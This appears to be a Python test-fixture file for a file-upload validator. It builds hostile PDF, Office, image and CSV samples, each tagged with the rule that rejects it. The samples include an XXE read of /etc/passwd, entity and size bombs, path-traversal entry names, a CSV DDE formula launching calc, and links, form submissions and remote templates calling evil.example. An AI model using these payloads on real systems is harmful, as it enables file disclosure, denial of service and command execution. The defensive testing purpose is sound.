"""Every hostile file there is, each with the rule that refuses it."""

from __future__ import annotations

import re

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.factories.files import (
    LINK,
    SCRIPT,
    XML,
    annotation,
    attached,
    claimed_size,
    go_to,
    make_office,
    make_pdf,
    make_picture,
    make_sheet,
    pack,
    relating,
    root,
    spelt_out,
    symlink,
    twice,
)


def hostile() -> dict[str, tuple[str, bytes, str]]:
    """By what it is: the kind its name says, its bytes, the rule it breaks."""
    pdf, docx, png = make_pdf(), make_office(), make_picture()
    word = {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macros"}
    laughs = '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><a>&b;</a>'
    outside = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    bomb = b"<a>" + b" " * 18_000_000 + b"</a>"
    return {
        "pdf web page in front": ("pdf", b"<html><script>1</script>" + pdf, "two-in-one"),
        "pdf archive behind": ("pdf", pdf + docx, "two-in-one"),
        "pdf text behind": ("pdf", pdf + b"<script>1</script>", "two-in-one"),
        "pdf cut off": ("pdf", pdf[: len(pdf) // 2], "damaged"),
        "pdf of nothing": ("pdf", b"%PDF-1.7\n" + b"\0" * 200 + b"\n%%EOF\n", "damaged"),
        "pdf script on opening": ("pdf", make_pdf(root(OpenAction=SCRIPT)), "opening"),
        "pdf script in a link": ("pdf", make_pdf(annotation(**LINK, A=SCRIPT)), "script"),
        "pdf script in hidden names": (
            "pdf",
            spelt_out(make_pdf(annotation(**LINK, A=SCRIPT), qdf=True)),
            "script",
        ),
        "pdf script in packed objects": (
            "pdf",
            make_pdf(
                annotation(**LINK, A=SCRIPT),
                object_stream_mode=pikepdf.ObjectStreamMode.generate,
            ),
            "script",
        ),
        "pdf script among the names": (
            "pdf",
            make_pdf(root(Names=Dictionary(JavaScript=Dictionary(Names=Array(["a", SCRIPT]))))),
            "script",
        ),
        "pdf script as an address": (
            "pdf",
            make_pdf(annotation(**LINK, A=go_to("URI", URI=String("javascript:alert(1)")))),
            "script",
        ),
        "pdf starts a program": (
            "pdf",
            make_pdf(annotation(**LINK, A=go_to("Launch", F=String("cmd.exe")))),
            "launch",
        ),
        "pdf sends a form": (
            "pdf",
            make_pdf(annotation(**LINK, A=go_to("SubmitForm", F=String("https://evil.example")))),
            "launch",
        ),
        "pdf opens another file": (
            "pdf",
            make_pdf(annotation(**LINK, A=go_to("GoToR", F=String(r"\\evil\share")))),
            "launch",
        ),
        "pdf opens an address": (
            "pdf",
            make_pdf(root(OpenAction=go_to("URI", URI=String("https://evil.example")))),
            "opening",
        ),
        "pdf acts when it is closed": (
            "pdf",
            make_pdf(root(AA=Dictionary(WC=go_to("URI", URI=String("https://a.example"))))),
            "actions",
        ),
        "pdf with an attachment": ("pdf", make_pdf(attached), "attachments"),
        "pdf with an attached note": (
            "pdf",
            make_pdf(annotation(Subtype=Name.FileAttachment)),
            "attachments",
        ),
        "pdf form of one program": (
            "pdf",
            make_pdf(root(AcroForm=Dictionary(XFA=String("<xdp/>"), Fields=Array()))),
            "form",
        ),
        "pdf with video": ("pdf", make_pdf(annotation(Subtype=Name.RichMedia)), "media"),
        "pdf with a password": (
            "pdf",
            make_pdf(encryption=pikepdf.Encryption(owner="o", user="u")),
            "locked",
        ),
        "pdf protected, with a script": (
            "pdf",
            make_pdf(
                annotation(**LINK, A=SCRIPT), encryption=pikepdf.Encryption(owner="o", user="")
            ),
            "script",
        ),
        "pdf protected, with an attachment": (
            "pdf",
            make_pdf(attached, encryption=pikepdf.Encryption(owner="o", user="")),
            "attachments",
        ),
        "docx with macros": ("docx", make_office(more=word), "macros"),
        "docx that is a macro file": (
            "docx",
            make_office(main_type="application/vnd.ms-word.document.macroEnabled.main+xml"),
            "macros",
        ),
        "xlsx with old macros": (
            "xlsx",
            make_office("xlsx", {"xl/macrosheets/sheet1.xml": "<a/>"}),
            "macros",
        ),
        "docx with a control": (
            "docx",
            make_office(more={"word/activeX/activeX1.xml": "<a/>"}),
            "controls",
        ),
        "docx with an object": (
            "docx",
            make_office(more={"word/embeddings/one.bin": b"\xd0\xcf\x11\xe0" * 9}),
            "objects",
        ),
        "docx with a template from elsewhere": (
            "docx",
            relating("docx", ("attachedTemplate", "https://evil.example/t.dotm", True)),
            "external",
        ),
        "docx with a picture from elsewhere": (
            "docx",
            relating("docx", ("image", "https://evil.example/pixel.png", True)),
            "external",
        ),
        "xlsx with figures from elsewhere": (
            "xlsx",
            make_office("xlsx", {"xl/externalLinks/externalLink1.xml": "<a/>"}),
            "external",
        ),
        "xlsx called docx": ("docx", make_sheet(), "kind"),
        "archive called docx": ("docx", pack([("a.txt", "a")]), "kind"),
        "docx with a program": ("docx", make_office(more={"word/run.exe": b"MZ"}), "nested"),
        "docx with an archive": (
            "docx",
            make_office(more={"word/media/image1.png": pack([("a", "b")])}),
            "nested",
        ),
        "docx with a docx in a docx": (
            "docx",
            make_office(
                more={"word/embeddings/a.docx": make_office(more={"word/embeddings/b.docx": docx})}
            ),
            "nested",
        ),
        "pptx with a chart with macros": (
            "pptx",
            make_office(
                "pptx",
                {"ppt/embeddings/a.xlsx": make_office("xlsx", {"xl/vbaProject.bin": b"x"})},
            ),
            "macros",
        ),
        "docx that leads out": ("docx", make_office(more={"../../evil.xml": "<a/>"}), "names"),
        "docx with an absolute name": ("docx", make_office(more={"/etc/x.xml": "<a/>"}), "names"),
        "docx with a name of Windows": ("docx", make_office(more={"C:x.xml": "<a/>"}), "names"),
        "docx with a link on the disk": ("docx", symlink(), "names"),
        "docx with a part twice": ("docx", twice(), "names"),
        "docx of many parts": (
            "docx",
            make_office(more={f"word/{number}.txt": "" for number in range(5_001)}),
            "entries",
        ),
        "docx that is a bomb": ("docx", make_office(more={"word/b.xml": bomb}), "unpacked"),
        "docx with laughs": ("docx", make_office(more={"word/a.xml": XML + laughs}), "entities"),
        "docx that reads our files": (
            "docx",
            make_office(more={"word/a.xml": XML + outside}),
            "entities",
        ),
        "docx with something in front": ("docx", b"PK\x03\x04#!/bin/sh\n" + docx, "two-in-one"),
        "docx with something behind": ("docx", docx + b"<script>1</script>", "two-in-one"),
        "docx with a part spoilt": (
            "docx",
            re.sub(rb"(?<=document\.xml).{12}", b"\xff" * 12, docx, count=1, flags=re.DOTALL),
            "damaged",
        ),
        "png that is too large": ("png", claimed_size(60_000, 60_000), "pixels"),
        "png with an archive behind": ("png", png + docx, "two-in-one"),
        "png with a script behind": ("png", png + b"<script>1</script>", "two-in-one"),
        "png cut off": ("png", png[: len(png) // 2], "damaged"),
        "jpg cut off": ("jpg", make_picture("JPEG")[:2_000], "damaged"),
        "jpg with an archive behind": ("jpg", make_picture("JPEG") + docx, "two-in-one"),
        "gif called jpg": ("jpg", b"\xff\xd8\xff" + make_picture("GIF"), "damaged"),
        "csv of bytes": ("csv", bytes(range(256)), "text"),
        "csv that is a web page": ("csv", b"<!DOCTYPE html><script>1</script>", "text"),
        "csv that is an archive": ("csv", docx, "two-in-one"),
        "csv with a command": ("csv", b"name,x\na,=cmd|' /C calc'!A0\n", "formula"),
        "csv that sends": ("csv", b'a;"=HYPERLINK(""https://evil.example"")"\n', "formula"),
    }
